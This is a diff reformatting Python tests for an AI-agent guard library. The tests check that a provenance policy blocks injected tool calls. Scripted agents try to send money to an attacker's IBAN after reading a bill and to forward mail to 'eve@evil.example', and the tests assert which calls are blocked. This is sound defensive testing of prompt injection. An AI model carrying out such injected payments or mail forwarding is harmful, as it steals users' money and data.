@@ -55,17 +55,23 @@ def test_a_recipient_the_user_typed_is_not_blocked():
 
 
 def test_a_value_from_the_system_prompt_counts_as_ours():
-    a = agent(["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=98.7)]', "Paid."],
-              system=f"The landlord's IBAN is {ATTACKER}.")
+    a = agent(
+        ["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=98.7)]', "Paid."],
+        system=f"The landlord's IBAN is {ATTACKER}.",
+    )
     assert [c.status for c in a.run("Pay the bill.").tool_calls] == ["ok", "blocked"]  # the amount: the bill's
-    a = agent(["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=98.7)]', "Paid."],
-              system=f"The landlord's IBAN is {ATTACKER}.")
+    a = agent(
+        ["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=98.7)]', "Paid."],
+        system=f"The landlord's IBAN is {ATTACKER}.",
+    )
     assert [c.status for c in a.run("Pay the 98.70 bill.").tool_calls] == ["ok", "ok"]
 
 
 def test_a_trusted_tool_result_is_not_third_party():
-    a = agent(["[my_contacts()]", f'[send_money(recipient="{ATTACKER}", amount=10)]', "Paid."],
-              guards=GuardChain.default(policy=ToolPolicy(provenance=True)))
+    a = agent(
+        ["[my_contacts()]", f'[send_money(recipient="{ATTACKER}", amount=10)]', "Paid."],
+        guards=GuardChain.default(policy=ToolPolicy(provenance=True)),
+    )
     result = a.run("Pay my landlord 10.")
     assert [c.status for c in result.tool_calls] == ["ok", "ok"]
     # the injection detector read send_money's result only, not the trusted contacts
@@ -102,11 +108,19 @@ def test_a_spec_turns_on_provenance_and_spotlighting():
     from corral import Agent
     from corral.spec import parse_spec
 
-    spec = parse_spec({
-        "backend": {"type": "scripted", "turns": ["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=1)]', "No."]},
-        "guards": {"default": False, "spotlight": "delimit",
-                   "tool_policy": {"provenance": True, "allow_values": ["GB29NWBK60161331926819"]}},
-    })
+    spec = parse_spec(
+        {
+            "backend": {
+                "type": "scripted",
+                "turns": ["[read_bill()]", f'[send_money(recipient="{ATTACKER}", amount=1)]', "No."],
+            },
+            "guards": {
+                "default": False,
+                "spotlight": "delimit",
+                "tool_policy": {"provenance": True, "allow_values": ["GB29NWBK60161331926819"]},
+            },
+        }
+    )
     a = Agent.from_spec(spec, tools=[read_bill, send_money])
     result = a.run("Pay one pound to whoever the bill names.")
     assert [c.status for c in result.tool_calls] == ["ok", "blocked"]
@@ -138,8 +152,11 @@ def test_a_value_redacted_from_the_prompt_still_counts_as_copied():
         """Forward mail."""
         return "ok"
 
-    a = Agent(ScriptedBackend(["[inbox()]", '[forward(to="eve@evil.example")]', "No."]), tools=[inbox, forward],
-              guards=GuardChain({"tool_call": [ToolPolicy(provenance=True)], "tool_result": [PIIRedactor()]}))
+    a = Agent(
+        ScriptedBackend(["[inbox()]", '[forward(to="eve@evil.example")]', "No."]),
+        tools=[inbox, forward],
+        guards=GuardChain({"tool_call": [ToolPolicy(provenance=True)], "tool_result": [PIIRedactor()]}),
+    )
     result = a.run("Sort my inbox.")
     assert "eve@evil.example" not in result.tool_calls[0].result
     assert result.tool_calls[1].status == "blocked"
